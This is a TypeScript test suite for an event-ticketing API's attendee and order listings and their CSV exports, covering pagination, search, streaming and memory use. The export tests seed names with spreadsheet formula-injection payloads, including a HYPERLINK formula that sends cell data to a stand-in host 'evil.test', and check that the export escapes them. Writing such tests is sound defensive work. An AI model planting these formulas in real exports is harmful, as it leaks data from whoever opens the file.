import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Attendee, EventOrderListItem } from '@zevents/contracts';
import { afterAll, describe, expect, inject, it, vi } from 'vitest';
import { createDatabase } from '../src/db/client';
import { EXPORT_BATCH_SIZE } from '../src/modules/checkin/csv-export';
import { ManualClock } from '../src/shared/clock';
import { type Actor, createEvent, createWorld } from './factories';
import { buildTestApp } from './harness';
import {
  buyTickets,
  checkIn,
  expectProblem,
  insertPaidTickets,
  type PaidOrder,
  reserveTickets,
} from './insight-helpers';

/** Follows nextCursor to the end; fails on a page that repeats an item. */
async function collectPages<T>(actor: Actor, path: string, limit: number): Promise<T[]> {
  const items: T[] = [];
  let cursor: string | null = null;
  for (let page = 0; page < 1_000; page++) {
    const separator = path.includes('?') ? '&' : '?';
    const url: string = `${path}${separator}limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
    const res = await actor.get(url);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.items.length).toBeLessThanOrEqual(limit);
    items.push(...(res.body.items as T[]));
    cursor = res.body.nextCursor as string | null;
    if (!cursor) return items;
  }
  throw new Error('pagination never ended');
}

/** Splits CSV text into records (quoted cells may hold commas and doubled quotes, never newlines here). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i];
    if (quoted) {
      if (char === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      cells.push(cell);
      cell = '';
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe('GET /api/events/{eventId}/attendees', () => {
  it('pages through every ticket once, by name, and filters by state and search', async () => {
    const t = buildTestApp();
    const world = await createWorld(t.app, t.database.db);
    const { event, ticketTypes } = await createEvent(t.database.db, world, {
      ticketTypes: [
        { name: 'GA', priceCents: 1_000, capacity: 100 },
        { name: 'VIP', priceCents: 5_000, capacity: 100 },
      ],
      publish: true,
    });
    const [ga, vip] = ticketTypes.map((type) => type.id) as [string, string];
    const names = [
      'Zoë Zed',
      'Ada Lovelace',
      'Alan Turing',
      '100% Real',
      'Ada Lovelace',
      'Émile Borel',
      'Barbara_Liskov',
    ];
    const orders: PaidOrder[] = [];
    for (const [i, name] of names.entries())
      orders.push(
        await buyTickets(
          world.anonymous,
          event.id,
          [[ga, 1 + (i % 3)], ...(i % 2 ? [[vip, 2] as [string, number]] : [])],
          {
            name,
            email: `person${i}@example.test`,
          },
        ),
      );
    const allTickets = orders.flatMap((order) => order.tickets);
    expect(allTickets.length).toBeGreaterThan(15);

    for (const limit of [1, 4, 7, 200]) {
      const items = await collectPages<Attendee>(world.staff, `/api/events/${event.id}/attendees`, limit);
      expect(items.map((item) => item.ticketId).sort()).toEqual(allTickets.map((ticket) => ticket.id).sort());
      expect(new Set(items.map((item) => item.ticketId)).size).toBe(items.length);
    }
    const { rows } = await t.database.pool.query<{ id: string }>(
      'SELECT id FROM tickets WHERE event_id = $1 ORDER BY attendee_name, id',
      [event.id],
    );
    const firstPage = await world.owner.get(`/api/events/${event.id}/attendees?limit=200`);
    expect(firstPage.body.items.map((item: Attendee) => item.ticketId)).toEqual(rows.map((row) => row.id));
    expect(firstPage.body.nextCursor).toBeNull();
    const adaTicket = orders[1]?.tickets[0];
    if (!adaTicket) throw new Error('no ticket');
    const sample = firstPage.body.items.find((item: Attendee) => item.ticketId === adaTicket.id);
    expect(sample).toEqual({
      ticketId: adaTicket.id,
      code: adaTicket.code,
      attendeeName: 'Ada Lovelace',
      attendeeEmail: null,
      answers: {},
      orderAnswers: {},
      buyerName: 'Ada Lovelace',
      buyerEmail: 'person1@example.test',
      ticketTypeId: ga,
      ticketTypeName: 'GA',
      status: 'valid',
      checkedInAt: null,
      orderId: orders[1]?.id ?? '',
      paymentMethod: null,
    } satisfies Attendee);

    // Check two in; filter by state.
    const first = orders[0]?.tickets[0];
    const second = orders[3]?.tickets[0];
    expect((await checkIn(world.staff, event.id, first?.qr ?? '')).status).toBe(200);
    expect((await checkIn(world.staff, event.id, second?.code ?? '')).status).toBe(200);
    const checked = await collectPages<Attendee>(
      world.staff,
      `/api/events/${event.id}/attendees?status=checked_in`,
      1,
    );
    expect(checked.map((item) => item.ticketId).sort()).toEqual([first?.id, second?.id].sort());
    expect(checked.every((item) => item.checkedInAt !== null)).toBe(true);
    const valid = await collectPages<Attendee>(
      world.staff,
      `/api/events/${event.id}/attendees?status=valid`,
      5,
    );
    expect(valid).toHaveLength(allTickets.length - 2);

    // Search: a name part, an email, a code typed by hand, and LIKE wildcards taken literally.
    const search = async (q: string) =>
      (
        await collectPages<Attendee>(
          world.staff,
          `/api/events/${event.id}/attendees?q=${encodeURIComponent(q)}`,
          3,
        )
      ).map((item) => item.ticketId);
    const ada = [...(orders[1]?.tickets ?? []), ...(orders[4]?.tickets ?? [])]
      .map((ticket) => ticket.id)
      .sort();
    expect((await search('lovelace')).sort()).toEqual(ada);
    expect((await search('PERSON2@example')).sort()).toEqual(orders[2]?.tickets.map((x) => x.id).sort());
    const code = orders[5]?.tickets[0]?.code ?? '';
    expect(await search(code.replace('-', '').toLowerCase())).toEqual([orders[5]?.tickets[0]?.id]);
    expect((await search('100%')).sort()).toEqual(orders[3]?.tickets.map((x) => x.id).sort());
    expect((await search('a_L')).sort()).toEqual(orders[6]?.tickets.map((x) => x.id).sort());
    expect((await search('%')).sort()).toEqual(orders[3]?.tickets.map((x) => x.id).sort());
    expect(await search('nobody at all')).toEqual([]);

    expectProblem(
      await world.staff.get(`/api/events/${event.id}/attendees?cursor=bogus`),
      400,
      'VALIDATION_FAILED',
    );
    expectProblem(
      await world.staff.get(`/api/events/${event.id}/attendees?status=lost`),
      400,
      'VALIDATION_FAILED',
    );
    expectProblem(
      await world.staff.get(`/api/events/${event.id}/attendees?limit=201`),
      400,
      'VALIDATION_FAILED',
    );
  });
});

describe('GET /api/events/{eventId}/orders', () => {
  it('pages newest first with no gaps, and filters by the status buyers see', async () => {
    const clock = new ManualClock(new Date());
    const t = buildTestApp({ clock });
    const world = await createWorld(t.app, t.database.db);
    const { event, ticketTypes } = await createEvent(t.database.db, world, {
      ticketTypes: [{ name: 'GA', priceCents: 1_500, capacity: 100 }],
      publish: true,
    });
    const ga = ticketTypes[0]?.id ?? '';
    const paid = [];
    // Several orders share one created_at (the clock stands still): the id breaks the tie.
    for (let i = 0; i < 6; i++)
      paid.push(
        await buyTickets(world.anonymous, event.id, [[ga, 1 + (i % 2)]], {
          name: `Paid ${i}`,
          email: `paid${i}@example.test`,
        }),
      );
    const stale = await reserveTickets(world.anonymous, event.id, [[ga, 1]], {
      name: 'Slow Sam',
      email: 'sam@example.test',
    });
    clock.advance(16 * 60_000);
    const live = await reserveTickets(world.anonymous, event.id, [[ga, 2]], {
      name: 'Live Lou',
      email: 'lou@example.test',
    });
    clock.advance(1_000);
    const cancelled = await reserveTickets(world.anonymous, event.id, [[ga, 1]], {
      name: '=HYPERLINK("x")',
      email: 'c@example.test',
    });
    expect(
      (await world.anonymous.post(`/api/orders/${cancelled.id}/cancel?token=${cancelled.accessToken}`))
        .status,
    ).toBe(200);
    const all = [...paid.map((order) => order.id), stale.id, live.id, cancelled.id];

    for (const limit of [1, 3, 50]) {
      const items = await collectPages<EventOrderListItem>(
        world.admin,
        `/api/events/${event.id}/orders`,
        limit,
      );
      expect(items.map((item) => item.id).sort()).toEqual([...all].sort());
      expect(new Set(items.map((item) => item.id)).size).toBe(all.length);
      const created = items.map((item) => Date.parse(item.createdAt));
      expect(created).toEqual([...created].sort((a, b) => b - a));
    }
    const byId = new Map(
      (await collectPages<EventOrderListItem>(world.staff, `/api/events/${event.id}/orders`, 200)).map(
        (item) => [item.id, item],
      ),
    );
    expect(byId.get(stale.id)?.status).toBe('expired');
    expect(byId.get(live.id)).toMatchObject({
      status: 'reserved',
      buyer: { name: 'Live Lou', email: 'lou@example.test' },
      tickets: 2,
      totalCents: 3_000,
      refundedCents: 0,
      currency: 'EUR',
      paidAt: null,
    });
    expect(byId.get(paid[1]?.id ?? '')).toMatchObject({ status: 'paid', tickets: 2, totalCents: 3_000 });

    const ids = async (query: string) =>
      (await collectPages<EventOrderListItem>(world.owner, `/api/events/${event.id}/orders?${query}`, 2))
        .map((item) => item.id)
        .sort();
    expect(await ids('status=paid')).toEqual(paid.map((order) => order.id).sort());
    expect(await ids('status=expired')).toEqual([stale.id]);
    expect(await ids('status=reserved')).toEqual([live.id]);
    expect(await ids('status=cancelled')).toEqual([cancelled.id]);
    expect(await ids('q=LOU@')).toEqual([live.id]);
    expect(await ids('q=paid3')).toEqual([paid[3]?.id]);
    expect(await ids(`q=${paid[2]?.tickets[0]?.code.toLowerCase()}`)).toEqual([paid[2]?.id]);
    expect(await ids('status=paid&q=sam')).toEqual([]);
    expectProblem(
      await world.owner.get(
        `/api/events/${event.id}/orders?cursor=${Buffer.from('{"k":"x","id":"y"}').toString('base64url')}`,
      ),
      400,
      'VALIDATION_FAILED',
    );

    const csv = await world.staff.get(`/api/events/${event.id}/orders.csv?status=cancelled`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="orders-${event.slug}.csv"`);
    const lines = csv.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(parseCsvLine(lines[0] ?? '')).toEqual([
      'order_id',
      'status',
      'buyer_name',
      'buyer_email',
      'tickets',
      'subtotal_cents',
      'discount_cents',
      'total_cents',
      'refunded_cents',
      'currency',
      'created_at',
      'paid_at',
      'subtotal',
      'discount',
      'total',
      'refunded',
      'payment_method',
    ]);
    expect(lines).toHaveLength(2);
    expect(parseCsvLine(lines[1] ?? '').slice(0, 5)).toEqual([
      cancelled.id,
      'cancelled',
      `'=HYPERLINK("x")`,
      'c@example.test',
      '1',
    ]);
    const everything = await world.staff.get(`/api/events/${event.id}/orders.csv`);
    expect(everything.text.trim().split('\r\n')).toHaveLength(1 + all.length);
  });
});

describe('GET /api/events/{eventId}/attendees.csv', () => {
  it('streams 10,000 attendees in chunks with bounded memory and escapes formulas', async () => {
    const database = createDatabase(inject('databaseUrl'), 4);
    afterAll(() => database.close());
    const t = buildTestApp({ database });
    const world = await createWorld(t.app, database.db);
    const { event, ticketTypes } = await createEvent(database.db, world, {
      ticketTypes: [{ name: 'Festival pass', priceCents: 0, capacity: 20_000 }],
    });
    const count = 10_000;
    await insertPaidTickets(database.pool, {
      eventId: event.id,
      ticketTypeId: ticketTypes[0]?.id ?? '',
      count,
      perOrder: 4,
      nameSql: `CASE i % 1000
        WHEN 0 THEN '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
        WHEN 1 THEN '+1+2'
        WHEN 2 THEN '-3+4'
        WHEN 3 THEN '@SUM(A1:A9)'
        WHEN 4 THEN E'\\tTabbed'
        WHEN 5 THEN E'\\rReturned'
        ELSE 'Attendee ' || lpad(i::text, 5, '0') END`,
    });

    const server = t.app.listen(0, '127.0.0.1');
    afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
    await new Promise<void>((resolve) => server.once('listening', () => resolve()));
    const { port } = server.address() as AddressInfo;
    const querySpy = vi.spyOn(database.pool, 'query');

    const before = process.memoryUsage().heapUsed;
    let peak = before;
    let chunks = 0;
    let bytes = 0;
    let records = 0;
    let header = '';
    let partial = '';
    const formulaNames = new Map<string, number>();
    const response = await new Promise<http.IncomingMessage>((resolve, reject) => {
      http
        .get(
          `http://127.0.0.1:${port}/api/events/${event.id}/attendees.csv`,
          { headers: world.staff.headers },
          resolve,
        )
        .on('error', reject);
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="attendees-${event.slug}.csv"`,
    );
    expect(response.headers['transfer-encoding']).toBe('chunked');
    expect(response.headers['content-length']).toBeUndefined();
    response.setEncoding('utf8');
    await new Promise<void>((resolve, reject) => {
      response.on('data', (chunk: string) => {
        chunks++;
        bytes += chunk.length;
        peak = Math.max(peak, process.memoryUsage().heapUsed);
        const lines = (partial + chunk).split('\r\n');
        partial = lines.pop() ?? '';
        for (const line of lines) {
          if (!header) {
            header = line;
            continue;
          }
          records++;
          const name = parseCsvLine(line)[2] ?? '';
          if (!name.startsWith('Attendee ')) formulaNames.set(name, (formulaNames.get(name) ?? 0) + 1);
        }
      });
      response.on('end', () => resolve());
      response.on('error', reject);
    });
    const queries = querySpy.mock.calls.map((call) => JSON.stringify(call[0]));
    querySpy.mockRestore();

    expect(partial).toBe('');
    expect(header.replace(/^\uFEFF/, '')).toBe(
      'ticket_id,code,attendee_name,buyer_name,buyer_email,ticket_type,status,checked_in_at,order_id,attendee_email,payment_method',
    );
    expect(header.startsWith('\uFEFF')).toBe(true);
    expect(records).toBe(count);
    expect(chunks).toBeGreaterThan(10);
    expect(bytes).toBeGreaterThan(count * 100);
    expect(peak - before).toBeLessThan(50 * 1024 * 1024);
    // Fetched in keyset batches, never all at once.
    const batchQueries = queries.filter((text) => text.includes('ORDER BY t.attendee_name'));
    expect(batchQueries.length).toBeGreaterThanOrEqual(count / EXPORT_BATCH_SIZE);
    expect(Object.fromEntries(formulaNames)).toEqual({
      [`'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`]: 10,
      "'+1+2": 10,
      "'-3+4": 10,
      "'@SUM(A1:A9)": 10,
      "'\tTabbed": 10,
      "'\rReturned": 10,
    });

    // A client that hangs up mid-export stops it; the server carries on and no connection is left busy.
    await new Promise<void>((resolve, reject) => {
      http
        .get(
          `http://127.0.0.1:${port}/api/events/${event.id}/attendees.csv`,
          { headers: world.staff.headers },
          (res) => {
            res.once('data', () => {
              res.destroy();
              resolve();
            });
          },
        )
        .on('error', (error: NodeJS.ErrnoException) =>
          error.code === 'ECONNRESET' ? resolve() : reject(error),
        );
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect((await world.staff.get(`/api/events/${event.id}/attendees?limit=1`)).status).toBe(200);
    expect(database.pool.waitingCount).toBe(0);
    expect(database.pool.idleCount).toBe(database.pool.totalCount);
  });
});
